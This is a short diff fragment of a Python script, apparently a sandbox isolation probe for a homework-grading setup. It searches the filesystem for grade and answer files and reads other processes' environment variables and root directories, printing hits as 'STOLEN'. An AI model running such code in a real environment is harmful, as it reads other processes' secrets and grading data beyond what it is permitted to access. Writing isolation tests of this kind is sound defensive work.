@@ -41,7 +41,7 @@ for parent, folders, names in os.walk("/"):
     if {"ledger.jsonl", "grades.csv", "hw6.py"} & set(names):
         print("STOLEN", parent, names)
 for name in os.listdir("/proc"):
-    if name.isdigit() and int(name) != os.getpid():
+    if name.isdigit() and int(name) not in (1, os.getpid()):
         try:
             print("STOLEN", open(f"/proc/{name}/environ").read()[:80], os.listdir(f"/proc/{name}/root"))
         except OSError:
